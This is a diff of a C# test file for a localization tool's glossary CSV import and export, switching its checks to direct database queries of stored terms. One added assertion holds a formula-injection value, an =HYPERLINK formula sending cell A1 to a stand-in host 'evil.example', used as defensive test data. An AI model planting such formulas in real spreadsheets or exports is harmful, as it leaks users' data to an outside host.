@@ -27,8 +27,9 @@ public sealed class GlossaryCsvCliTests
         await File.WriteAllTextAsync(source, Glossary);
         var imported = await InProcessCli.RunAsync(repository, null, "glossary", "import", source, "--from", "en", "--to", "es");
         Assert.True(imported.ExitCode == LocalizeCommandLine.Ok, imported.Errors);
-        var listed = await InProcessCli.RunAsync(repository, null, "glossary", "list", "--from", "en", "--to", "es");
-        Assert.Contains("=1+1", listed.Output);
+        var stored = await TermsAsync(repository, "es");
+        Assert.Contains("=HYPERLINK(\"http://evil.example/?\"&A1;\"click\") | =1+1 | formula in every cell | Preferred", stored);
+        Assert.Contains("-ol | -ol | do-not-translate suffix | Preferred", stored);
 
         var exported = Path.Combine(repository.Root, "export.csv");
         var export = await InProcessCli.RunAsync(repository, null, "glossary", "export", exported, "--from", "en", "--to", "es");
@@ -46,8 +47,17 @@ public sealed class GlossaryCsvCliTests
         // The export imports back into another pair as exactly the same terms.
         var again = await InProcessCli.RunAsync(repository, null, "glossary", "import", exported, "--from", "en", "--to", "fr");
         Assert.True(again.ExitCode == LocalizeCommandLine.Ok, again.Errors);
-        var relisted = await InProcessCli.RunAsync(repository, null, "glossary", "list", "--from", "en", "--to", "fr");
-        Assert.Equal(listed.Output, relisted.Output);
+        Assert.Equal(stored, await TermsAsync(repository, "fr"));
+    }
+
+    /// <summary>The stored terms of en → <paramref name="target"/>, as text.</summary>
+    private static async Task<string[]> TermsAsync(TestRepository repository, string target)
+    {
+        await using var connection = await repository.OpenDatabaseAsync();
+        return [.. await Dapper.SqlMapper.QueryAsync<string>(
+            connection,
+            "SELECT source_term || ' | ' || target_term || ' | ' || note || ' | ' || kind FROM glossary_terms WHERE source_lang = 'en' AND target_lang = @target ORDER BY id",
+            new { target })];
     }
 
     /// <summary>The cells of a CSV line as a spreadsheet sees their first character (quotes removed).</summary>
